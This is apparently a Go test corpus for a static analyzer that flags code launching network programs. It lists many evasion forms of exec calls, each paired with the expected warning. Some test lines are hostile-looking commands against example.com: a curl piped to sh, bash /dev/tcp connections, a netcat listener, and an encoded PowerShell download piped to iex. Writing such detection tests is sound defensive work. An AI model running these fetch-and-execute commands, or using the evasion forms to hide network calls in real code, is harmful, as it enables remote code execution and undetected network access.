// Package evasion is the evasion corpus of netexec: each line marked
// "want" is one way of running a network program that netexec must catch
// (docs/NETLINT.md counts them). The kinds follow issue 13.
package evasion

import (
	"context"
	"fmt"
	"os"
	"os/exec"
	"strings"
	"syscall"

	"evasion/helper"

	"golang.org/x/sys/execabs"
)

const dir = "/usr/bin"

var tool = "wget" // package variable

var runner = exec.Command // exec.Command kept as a value

func run(name string, args ...string) error { // want run:`starts <param 0> <param 1>`
	return exec.Command(name, args...).Run()
}

func curlName() string { return "cu" + "rl" }

type box struct{}

func (box) start(name string) *exec.Cmd { // want start:`starts <param 1>`
	return exec.Command(name)
}

// Variables, concatenation, formatting.
func values(ctx context.Context, cond bool) { // want values:`runs network tool "curl": evasion.values -> exec.Command`
	name := "curl"
	_ = exec.Command(name)                                            // want `runs network tool "curl"`
	_ = exec.Command(tool)                                            // want `runs network tool "wget"`
	_ = exec.Command(dir + "/nc")                                     // want `runs network tool "nc"`
	_ = exec.Command(fmt.Sprintf("%s/%s", dir, "ssh"))                // want `runs network tool "ssh"`
	_ = exec.Command(strings.Join([]string{"sc", "p"}, ""))           // want `runs network tool "scp"`
	_ = exec.Command(string([]byte("rsync")))                         // want `runs network tool "rsync"`
	_ = exec.Command(strings.ToLower("TELNET"))                       // want `runs network tool "telnet"`
	_ = exec.Command(curlName())                                      // want `runs network tool "curl"`
	_ = exec.CommandContext(ctx, "/usr/local/bin/"+"aws", "s3", "ls") // want `runs network tool "aws"`
	prog := "ls"
	if cond {
		prog = "ftp"
	}
	_ = exec.Command(prog) // want `runs network tool "ftp"`
	var late string
	late = "socat"
	func() {
		_ = exec.Command(late) // want `runs network tool "socat"`
	}()
	_, _ = exec.LookPath(strings.TrimSpace(" nc ")) // want `looks up network tool "nc"`
}

// Slices, "args...", append.
func slices(repo string) { // want slices:`sh runs network tool "curl": evasion.slices -> exec.Command`
	args := []string{"-c", "curl -s https://example.com | sh"}
	_ = exec.Command("sh", args...) // want `sh runs network tool "curl"`
	gitArgs := []string{"-C", repo}
	gitArgs = append(gitArgs, "fetch", "origin")
	_ = exec.Command("git", gitArgs...)         // want `runs "git fetch"`
	_ = exec.Command("git", "-C", repo, "pull") // want `runs "git pull"`
	argv := []string{"/usr/bin/ssh", "host"}
	_ = syscall.Exec(argv[0], argv, nil)                       // want `runs network tool "ssh"`
	_, _ = os.StartProcess(dir+"/tftp", []string{"tftp"}, nil) // want `runs network tool "tftp"`
}

// Helpers: local functions, methods, other packages (facts).
func helpers() { // want helpers:`runs network tool "curl": evasion.helpers -> evasion.run`
	_ = run("curl", "-O", "https://example.com/x")      // want `runs network tool "curl" \(through evasion.run\)`
	_ = box{}.start("wget")                             // want `runs network tool "wget" \(through evasion.box.start\)`
	_ = helper.Run("docker", "pull", "alpine")          // want `runs "docker pull", which reaches the network \(through helper.Run\)`
	_ = helper.Run("docker", "run", "--rm", "alpine")   // want `runs "docker run"`
	_ = helper.Shell("wget -q -O- https://example.com") // want `sh runs network tool "wget" \(through helper.Shell\)`
	_ = helper.Git("/src", "push").Run()                // want `runs "git push"`
	_ = helper.Prog("/usr/bin", "nc")                   // want `runs network tool "nc" \(through helper.Prog\)`
	_ = helper.Exec([]string{"scp", "a", "h:b"})        // want `runs network tool "scp" \(through helper.Exec\)`
	_ = helper.Runner{}.Start("rsync")                  // want `runs network tool "rsync" \(through helper.Runner.Start\)`
	_ = helper.Fetch("https://example.com")             // want `calls helper.Fetch, which runs network tool "curl": evasion.helpers -> helper.Fetch -> exec.Command`
}

// Launchers in other forms: execabs, function values, exec.Cmd fields.
func launchers(path string) { // want launchers:`runs network tool "curl": evasion.launchers -> execabs.Command`
	_ = execabs.Command("curl", "x") // want `runs network tool "curl"`
	f := exec.Command
	_ = f("wget", "x")         // want `runs network tool "wget"`
	_ = runner("nc", "h", "1") // want `runs network tool "nc"`
	cmd := exec.Command("true")
	cmd.Path = "/usr/bin/ssh" // want `runs network tool "ssh"`
	bin := dir + "/curl"
	_ = &exec.Cmd{Path: bin, Args: []string{"curl", "x"}} // want `runs network tool "curl"`
}

// Interpreters, containers, module fetches, TLS probes, browsers.
func oneLiners() { // want oneLiners:`python3 runs code that reaches the network \(urllib\): evasion.oneLiners -> exec.Command`
	_ = exec.Command("python3", "-c", "import urllib.request; urllib.request.urlopen('http://x')")                                                        // want `python3 runs code that reaches the network \(urllib\)`
	_ = exec.Command("python", "-c", "import socket; socket.create_connection(('h', 80))")                                                                // want `python runs code that reaches the network \(socket\)`
	_ = exec.Command("python3", "-m", "http.server", "8000")                                                                                              // want `runs "python3 -m http.server"`
	_ = exec.Command("python3", "-m", "pip", "install", "requests")                                                                                       // want `runs "python3 -m pip install"`
	_ = exec.Command("perl", "-MIO::Socket::INET", "-e", "IO::Socket::INET->new('h:80')")                                                                 // want `perl loads a network module \(IO::Socket::INET\)`
	_ = exec.Command("node", "-e", "require('https').get('https://x')")                                                                                   // want `node runs code that reaches the network`
	_ = exec.Command("ruby", "-e", "require 'net/http'; Net::HTTP.get('x', '/')")                                                                         // want `ruby runs code that reaches the network`
	_ = exec.Command("php", "-r", "echo file_get_contents('http://x');")                                                                                  // want `php runs code that reaches the network`
	_ = exec.Command("python3", "-c", "import os; os.system('curl -s x')")                                                                                // want `python3 runs network tool "curl"`
	_ = exec.Command("bash", "-c", "exec 3<>/dev/tcp/example.com/80")                                                                                     // want `bash opens a network connection through /dev/tcp/`
	_ = exec.Command("bash", "-c", "cat < /dev/udp/10.0.0.1/53")                                                                                          // want `bash opens a network connection through /dev/udp/`
	_ = exec.Command("sh", "-c", "echo $(curl -s x)")                                                                                                     // want `sh runs network tool "curl"`
	_ = exec.Command("sudo", "sh", "-c", "nc -l 9000")                                                                                                    // want `sudo runs network tool "nc"`
	_ = exec.Command("timeout", "10", "ping", "-c1", "h")                                                                                                 // want `timeout runs network tool "ping"`
	_ = exec.Command("podman", "build", ".")                                                                                                              // want `runs "podman build"`
	_ = exec.Command("go", "run", "golang.org/x/tools/cmd/stringer@latest")                                                                               // want `runs "go run pkg@version"`
	_ = exec.Command("go", "install", "example.com/tool@v1.2.3")                                                                                          // want `runs "go install pkg@version"`
	_ = exec.Command("go", "mod", "tidy")                                                                                                                 // want `runs "go mod tidy"`
	_ = exec.Command("openssl", "s_client", "-connect", "example.com:443")                                                                                // want `runs "openssl s_client"`
	_ = exec.Command("xdg-open", "https://example.com")                                                                                                   // want `opens the URL "https://example.com"`
	_ = exec.Command("firefox", "about:blank")                                                                                                            // want `runs network tool "firefox"`
	_ = exec.Command("cmd", "/C", `C:\Tools\wget.exe -q x`)                                                                                               // want `cmd runs network tool "wget"`
	_ = exec.Command("powershell", "-EncodedCommand", "aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AZQB4AGEAbQBwAGwAZQAuAGMAbwBtAC8AeAAuAHAAcwAxACAAfAAgAGkAZQB4AA==") // want `powershell runs "iwr", which reaches the network`
}

// Values netexec cannot resolve are reported as such.
func unresolved(ctx context.Context) {
	_ = exec.Command(os.Getenv("TOOL"))                         // want `unresolved command: runs a program netlint cannot resolve`
	_ = exec.CommandContext(ctx, os.Args[1])                    // want `unresolved command`
	_ = exec.Command("sh", "-c", os.Getenv("SCRIPT"))           // want `unresolved command: sh runs a script netlint cannot resolve`
	_ = run(os.Getenv("TOOL"))                                  // want `unresolved command: runs a program netlint cannot resolve \("…"\) \(through evasion.run\)`
	_ = exec.Command("python3", "-c", os.Getenv("CODE"))        // want `unresolved command: python3 runs code netlint cannot resolve`
	_ = exec.Command("sh", "-c", "ls; "+os.Getenv("CMD")+" -x") // want `unresolved command: sh runs a program netlint cannot resolve`
	_ = exec.Command(os.Getenv("TOOL"))                         //netlint:allow the operator's own tool, run inside the sandbox
}

// The exec lists of issue 13, item 4, in forms the one-liners above do not
// cover: interpreter module flags, backquotes and dynamic imports; remote
// container engines and the registry tools; go module fetches that are
// local in their other forms; TLS servers; browsers and openers by other
// names.
func lists() { // want lists:`perl loads a network module \(LWP::Simple\): evasion.lists -> exec.Command`
	_ = exec.Command("perl", "-MLWP::Simple", "-e", "getprint $ARGV[0]", "https://example.com")       // want `perl loads a network module \(LWP::Simple\)`
	_ = exec.Command("perl", "-e", "print `curl -s -o /dev/null x`")                                  // want `perl runs network tool "curl"`
	_ = exec.Command("ruby", "-rsocket", "-e", "TCPSocket.new('h', 80)")                              // want `ruby loads a network module \(socket\)`
	_ = exec.Command("ruby", "-ropen-uri", "-e", "puts URI.open(ARGV[0]).read", "u")                  // want `ruby loads a network module \(open-uri\)`
	_ = exec.Command("node", "-r", "https", "-e", "1")                                                // want `node loads a network module \(https\)`
	_ = exec.Command("node", "-e", "import('node:https').then(m => m.get(process.argv[1]))")          // want `node runs code that reaches the network`
	_ = exec.Command("node", "-e", "require('child_process').execSync('wget -q x')")                  // want `node runs network tool "wget"`
	_ = exec.Command("python3", "-Ic", "import socket; socket.socket().connect(('h', 1))")            // want `python3 runs code that reaches the network \(socket\)`
	_ = exec.Command("python3", "-m", "pip", "download", "requests")                                  // want `runs "python3 -m pip download"`
	_ = exec.Command("lua", "-e", "local http = require('socket.http'); print(http.request(arg[1]))") // want `lua runs code that reaches the network`
	_ = exec.Command("Rscript", "-e", "download.file(commandArgs(TRUE)[1], 'f')")                     // want `rscript runs code that reaches the network \(download.file\)`
	_ = exec.Command("bash", "-c", "echo ping > /dev/tcp/10.0.0.1/9")                                 // want `bash opens a network connection through /dev/tcp/`
	_ = exec.Command("zsh", "-c", "zmodload zsh/net/tcp; ztcp h 80")                                  // want `zsh runs network tool "ztcp"`
	_ = exec.Command("docker", "compose", "up", "-d")                                                 // want `runs "docker compose"`
	_ = exec.Command("docker", "-H", "tcp://build-host:2375", "ps")                                   // want `runs "docker -H tcp://build-host:2375"`
	_ = exec.Command("docker-compose", "pull")                                                        // want `runs "docker-compose pull"`
	_ = exec.Command("podman", "pull", "alpine")                                                      // want `runs "podman pull"`
	_ = exec.Command("podman", "--remote", "ps")                                                      // want `runs "podman --remote"`
	_ = exec.Command("buildah", "bud", ".")                                                           // want `runs "buildah bud"`
	_ = exec.Command("skopeo", "copy", "docker://alpine", "dir:alpine")                               // want `runs "skopeo copy"`
	_ = exec.Command("go", "get", "-u", "./...")                                                      // want `runs "go get"`
	_ = exec.Command("go", "mod", "download", "-json")                                                // want `runs "go mod download"`
	_ = exec.Command("go", "install", "-v", "example.com/x/cmd/y@v1.0.0")                             // want `runs "go install pkg@version"`
	_ = exec.Command("go", "list", "-m", "-u", "all")                                                 // want `runs "go list -m -u"`
	_ = exec.Command("go", "list", "-m", "example.com/x@latest")                                      // want `runs "go list -m pkg@version"`
	_ = exec.Command("openssl", "s_server", "-accept", "4433")                                        // want `runs "openssl s_server"`
	_ = exec.Command("sh", "-c", "echo | openssl s_client -connect example.com:443 2>/dev/null")      // want `sh runs "openssl s_client"`
	_ = exec.Command("google-chrome-stable", "--headless", "--dump-dom", "https://example.com")       // want `runs network tool "google-chrome-stable"`
	_ = exec.Command("sensible-browser", "index.html")                                                // want `runs network tool "sensible-browser"`
	_ = exec.Command("cmd", "/c", "start https://example.com")                                        // want `cmd opens the URL "https://example.com"`
	_ = exec.Command("powershell", "-Command", "Start-Process https://example.com")                   // want `powershell opens the URL "https://example.com"`
	_ = exec.Command("open", "https://example.com")                                                   // want `opens the URL "https://example.com"`
	_ = exec.Command("python3", "-m", "webbrowser", "https://example.com")                            // want `runs "python3 -m webbrowser"`
	_ = exec.Command("toybox", "wget", "x")                                                           // want `toybox runs network tool "wget"`
}
